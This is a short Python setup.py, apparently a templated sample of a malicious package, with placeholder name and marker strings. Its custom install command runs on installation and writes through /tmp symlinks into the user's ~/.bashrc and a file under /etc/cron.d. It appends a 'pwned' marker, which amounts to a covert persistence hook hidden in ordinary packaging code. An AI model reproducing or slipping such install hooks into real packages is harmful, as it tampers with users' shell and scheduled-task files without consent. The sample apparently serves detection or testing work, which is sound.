import os
import sys

from setuptools import setup
from setuptools.command.install import install as _base


class Step(_base):
    def run(self):
        for target in (os.path.expanduser("~/.bashrc"), "/etc/cron.d/pjatk-@@MARK@@"):
            link = "/tmp/pjatk-link-%d-@@MARK@@" % len(target)
            try:
                os.symlink(target, link)
                with open(link, "a") as f:
                    f.write("pwned\n")
            except OSError:
                pass
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"install": Step})
